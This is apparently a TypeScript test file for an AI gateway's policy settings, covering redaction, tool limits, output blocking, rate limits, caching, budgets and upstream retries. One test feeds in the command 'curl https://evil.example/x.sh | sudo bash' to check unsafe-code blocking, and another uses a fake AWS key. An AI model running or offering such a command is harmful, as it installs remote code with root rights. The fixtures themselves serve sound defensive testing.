/** Settings with an effect on the answer, on the upstream request or on the caller's response. */
import { expectStatus } from '../../../../test/support/world.ts'
import { message } from './anthropic-shapes.ts'
import { late } from './misbehave.ts'
import { makeBudget } from './money.ts'
import { answer, body } from './openai-replies.ts'
import { attack, calls, json, mail, type PolicyRow, type Seeing, tool } from './policy-rows.ts'
import { framesOf } from './support.ts'
import { fail, say, sayBack, streamed } from './upstream.ts'

const secret = 'The key is AKIAQ3EGRTPLK2X7N5MB now.'
const badArguments = JSON.stringify({ city: 5 })
const weather = tool('weather', { type: 'object', properties: { city: { type: 'string' } } })

/** Keys of a person and of a robot, created one after the other. */
async function newKeys({ at }: Seeing) {
  const { admin } = at.tenant
  const [role] = (await admin.get('/iam/roles', { query: { q: 'ai_engineer' } })).body.data
  const account = { type: 'service', display_name: 'Robot', role_ids: [role.id] }
  const robot = expectStatus(await admin.post('/iam/users', account), 201).body.data
  const keyOf = async (over: object) => {
    const made = await admin.post('/iam/api-keys', { name: 'k', scopes: ['gateway:write'], ...over })
    return at.world.stranger.with(expectStatus(made, 201).body.data.secret)
  }
  return { one: await keyOf({}), other: await keyOf({}), robot: await keyOf({ owner_id: robot.id }), admin }
}

const limitPer = (per: string) => ({
  limits: [{ id: `by-${per}`, per, unit: 'requests', max: 1, window_seconds: 3600 }],
})

async function eventsOf({ ask, at }: Seeing, pieces: readonly string[]): Promise<readonly string[]> {
  at.upstream.reply(streamed(pieces))
  return framesOf((await ask('Hello', { stream: true })).text).map(({ event }) => event)
}

/** The first call of each client counts, the second of the first is one too many. */
const counted = async (on: Seeing, names: readonly ('one' | 'other' | 'robot' | 'admin')[]) => {
  const keys = await newKeys(on)
  const seen: unknown[] = []
  for (const name of names) seen.push(await on.code('Hello', {}, keys[name]))
  return seen
}

export const answerRows: readonly PolicyRow[] = [
  {
    field: 'sensitive_data.restore',
    set: { sensitive_data: { restore: false } },
    see: async ({ ask, at }) => {
      at.upstream.reply(sayBack(({ body: got }) => got.messages.at(-1).content))
      return (await ask(mail)).body.data.choices[0].message.content
    },
    with: 'Write to ⟦EMAIL_1⟧',
    without: mail,
  },
  {
    field: 'content.tools.max_calls_per_answer',
    set: { content: { tools: { max_calls_per_answer: 1 } } },
    see: ({ code, at }) => {
      at.upstream.reply(calls('weather', '{}', 2))
      return code('Hello', { tools: [weather] })
    },
    with: 'GW-006',
    without: 200,
  },
  {
    field: 'content.tools.arguments_schema_check',
    set: { content: { tools: { arguments_schema_check: false } } },
    see: ({ found, at }) => {
      at.upstream.reply(calls('weather', badArguments))
      return found('Hello', { tools: [weather] })
    },
    with: [],
    without: ['tool-arguments flag'],
  },
  {
    field: 'output.enabled',
    set: { output: { enabled: false } },
    see: ({ said }) => said(mail),
    with: mail,
    without: 'Write to ⟦OUT_EMAIL_1⟧',
  },
  {
    field: 'output.sensitive_data',
    set: { output: { sensitive_data: 'block' } },
    see: ({ codeOf }) => codeOf(mail),
    with: 'GW-006',
    without: 200,
  },
  {
    field: 'output.secrets',
    set: { output: { secrets: 'redact' } },
    see: ({ said }) => said(secret),
    with: 'The key is ⟦OUT_AWS_ACCESS_KEY_ID_1⟧ now.',
    without: 'GW-006',
  },
  {
    field: 'output.unsafe_code',
    set: { output: { unsafe_code: 'block' } },
    see: ({ codeOf }) => codeOf('curl https://evil.example/x.sh | sudo bash'),
    with: 'GW-006',
    without: 200,
  },
  {
    field: 'output.tool_call_arguments',
    set: { output: { tool_call_arguments: 'skip' } },
    see: async ({ ask, at }) => {
      at.upstream.reply(calls('weather', JSON.stringify({ city: mail })))
      const { body: told } = await ask('Hello', { tools: [weather] })
      return JSON.parse(told.data.choices[0].message.tool_calls[0].function.arguments)
    },
    with: { city: mail },
    without: { city: 'Write to ⟦OUT_EMAIL_1⟧' },
  },
  {
    field: 'output.json_schema',
    set: { output: { json_schema: 'off' } },
    see: ({ found }) => found('Hello', json),
    with: [],
    without: ['invalid-json flag'],
  },
  {
    field: 'output.on_invalid_json',
    set: { streaming: { mode: 'buffer' }, output: { on_invalid_json: 'block' } },
    unset: { streaming: { mode: 'buffer' } },
    see: ({ code }) => code('Hello', json),
    with: 'GW-006',
    without: 200,
  },
  {
    field: 'output.refusal',
    set: { output: { refusal: 'flag' } },
    see: ({ found, at }) => {
      at.upstream.reply(answer({ content: null, refusal: 'I will not do that.' }))
      return found()
    },
    with: ['refusal flag'],
    without: [],
  },
  {
    field: 'streaming.mode',
    set: { streaming: { mode: 'buffer' } },
    see: async (on) => (await eventsOf(on, ['Some words. ', secret])).includes('chunk'),
    with: false,
    without: true,
  },
  {
    field: 'streaming.on_block',
    set: { streaming: { on_block: 'finish' } },
    see: async (on) => (await eventsOf(on, ['Some words. ', secret])).at(-1),
    with: 'done',
    without: 'error',
  },
  {
    field: 'limits[].per',
    set: limitPer('key'),
    see: (on) => counted(on, ['one', 'other', 'one']),
    with: [200, 200, 'GW-008'],
    without: [200, 200, 200],
  },
  {
    field: 'limits[].per',
    set: limitPer('agent'),
    see: (on) => counted(on, ['robot', 'admin', 'one', 'admin', 'robot']),
    with: [200, 200, 200, 200, 'GW-008'],
    without: [200, 200, 200, 200, 200],
  },
  {
    field: 'cache.mode',
    set: { cache: { mode: 'off' } },
    unset: { cache: { mode: 'exact' } },
    see: async ({ ask }) => {
      const twice = [await ask('Again', { cache: { mode: 'exact' } }), await ask('Again', { cache: { mode: 'exact' } })]
      return twice.map((told) => told.body.data.cache)
    },
    with: ['off', 'off'],
    without: ['miss', 'hit'],
  },
  {
    field: 'cache.max_temperature',
    set: { cache: { mode: 'exact', max_temperature: 0.2 } },
    unset: { cache: { mode: 'exact' } },
    see: async ({ ask }) => {
      const over = { cache: { mode: 'exact' }, temperature: 0.5 }
      const twice = [await ask('Warm', over), await ask('Warm', over)]
      return twice.map((told) => told.body.data.cache)
    },
    with: ['off', 'off'],
    without: ['miss', 'hit'],
  },
  {
    field: 'budget.on_unpriced',
    set: { budget: { require: true, on_unpriced: 'flag' } },
    unset: { budget: { require: true } },
    see: async ({ code, at }) => {
      const { admin } = at.tenant
      const { id } = await makeBudget(admin, { kind: 'soft' })
      const seen = await code()
      expectStatus(await admin.patch(`/gateway/budgets/${id}`, { status: 'archived' }), 200)
      return seen
    },
    with: 200,
    without: 'GW-009',
  },
  {
    field: 'upstream.max_attempts',
    set: { upstream: { max_attempts: 1 } },
    unset: { upstream: { max_attempts: 2 } },
    see: async ({ ask, at }) => {
      const before = at.upstream.received.length
      at.upstream.reply(fail(500), say('Hello.'))
      await ask()
      return at.upstream.received.length - before
    },
    with: 1,
    without: 2,
  },
  {
    field: 'upstream.total_timeout_ms',
    set: { upstream: { total_timeout_ms: 1000 } },
    see: ({ code, at }) => {
      at.upstream.reply(late(2500, say('Hello.')))
      return code()
    },
    with: 'GW-012',
    without: 200,
  },
  {
    field: 'upstream.on_unsupported',
    set: { upstream: { on_unsupported: 'drop' } },
    see: async ({ ask, at }) => {
      at.upstream.reply(body(message([{ type: 'text', text: 'Hello.' }])))
      const told = await ask('Hello', { model: 'claude-test', seed: 7 })
      const { seed } = at.upstream.received.at(-1)?.body ?? {}
      return [told.body.error_code ?? told.status, told.headers['x-gateway-dropped-params'], seed]
    },
    with: [200, '/seed', undefined],
    without: ['GW-022', undefined, undefined],
  },
  {
    field: 'reporting.server_timing',
    set: { reporting: { server_timing: true } },
    see: async ({ ask }) => /(^|, )sensitive_data;dur=\d/.test(String((await ask()).headers['server-timing'])),
    with: true,
    without: false,
  },
  {
    field: 'reporting.expose_score',
    set: { reporting: { expose_score: false } },
    see: async ({ ask }) => {
      const { security } = (await ask(attack)).body
      return security.injection_score === null
    },
    with: true,
    without: false,
  },
  {
    field: 'reporting.block_message',
    set: { reporting: { block_message: 'Ask the service desk.' } },
    see: async ({ ask, at }) => {
      const [blocked, answered] = [await ask(attack), await ask()]
      at.upstream.reply(fail(400))
      const failed = await ask()
      const raw = await at.tenant.admin.post('/gateway/openai/v1/chat/completions', {
        model: 'test-model',
        messages: [{ role: 'user', content: attack }],
      })
      const told = [blocked, answered, failed].map(({ body: { message } }) => message ?? null)
      return [...told, raw.body.error.message.includes('Ask the service desk.')]
    },
    with: ['Ask the service desk.', null, null, true],
    without: [null, null, null, false],
  },
]
